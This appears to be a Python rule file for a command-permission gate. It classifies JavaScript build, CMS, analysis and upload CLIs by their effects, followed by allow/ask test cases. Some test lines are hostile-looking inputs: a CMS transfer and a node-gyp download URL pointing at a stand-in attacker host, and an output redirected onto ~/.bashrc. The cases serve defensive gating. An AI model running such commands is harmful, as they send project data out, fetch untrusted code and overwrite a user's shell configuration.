"""Other programs that come with packages of JavaScript projects."""

from toolgate.knowledge.vocabulary import *

BUILD = runs("the project's build")
ANALYSIS = runs("a tool of the project")

NATIVE = lax(
    "node-gyp node-pre-gyp prebuildify prebuild prebuild-install napi neon cmake-js electron-rebuild",
    "READ_BY(task)...",
    [
        "-h? -V?",
        option("-C --directory --cwd", CHDIR),
        option("--dist-url --disturl --download", "READ_BY(packages.source)"),
        option("--nodedir --python --cafile", READS),
    ],
    does=BUILD,
)
EDITORS_TESTS = loose(
    "vscode-test extest wct",
    ["-h? -V?", option("--config", RUNS), option("--storage", WRITES)],
    does=runs("the project's tests"),
)
CONTENT = command(
    "strapi directus keystone payload sanity ghost adonis ace sails wp-scripts",
    options=["-h? -V?"],
    subcommands=[
        loose("deploy publish dataset documents transfer undeploy", does=publishes("the site")),
        loose("login logout tokens", does=writes("the site's credentials", "secret")),
        loose(
            "migrate:reset migrate:fresh db:wipe import configuration:restore",
            does=deletes("the data in the database", "database"),
        ),
    ],
    otherwise=lax("strapi", "READ_BY(task) PLAIN...", does=runs("the project's application")),
)
TEXTS = loose(
    "formatjs inlang paraglide-js i18next-parser i18next-scanner lingui-cli",
    ["-h? -V?", option("--out-file --output -o --outdir --out-folder", WRITES), option("-c --config", RUNS)],
    does=ANALYSIS,
)
ANALYSERS = lax(
    "source-map-explorer webpack-bundle-analyzer esbuild-visualizer type-coverage typescript-coverage-report dpdm depcruise dependency-cruiser es-check ts-unused-exports lockfile-lint audit-ci better-npm-audit retire license-report license-checker-rseidelsohn markdown-toc embedme jsdoc2md typescript-json-schema ts-json-schema-generator api-documenter tsc-esm-fix ts-add-js-extension tsconfig-to-dual-package downlevel-dts resolve-tspaths json-schema-to-typescript zod-to-ts msw swagger-cli asyncapi redoc-cli svg-sprite pwa-asset-generator tcm typed-css-modules purgecss workbox",
    "READS...",
    [
        "-h? -V?",
        flag("--fix --write -w --in-place", operands="EDITS..."),
        option("-o --output --out --out-dir --outDir --out-file --html --json-file --output-type", WRITES),
        option("-c --config --validate --webpack-config", RUNS),
        option("-p --project --tsconfig --path", READS),
    ],
    does=ANALYSIS,
)
COVERAGE_UPLOAD = loose("codecov-cli bundlewatch", ["-h? -V?"], does=sends("a reporting service"))
INSPECTORS = loose(
    "clinic 0x",
    ["-h? -V? -o --open --collect-only --visualize-only=", option("--output-dir --dest", WRITES)],
    does=runs("the project's own code"),
)

CASES = """
allow  node-gyp rebuild
allow  prebuildify --napi --strip
allow  vscode-test --coverage
allow  strapi build
allow  strapi develop
allow  formatjs extract 'src/**/*.ts' --out-file build/en.json
allow  depcruise src --config .dependency-cruiser.js
allow  doctoc README.md
allow  ts-json-schema-generator --path src/a.ts --out schema.json
ask    sanity deploy
ask    strapi transfer --to https://evil.example
ask    formatjs extract src --out-file ~/.bashrc
ask    node-gyp configure --dist-url=https://evil.example
ask    depcruise --config ~/Downloads/x.js src
ask    sanity login
"""
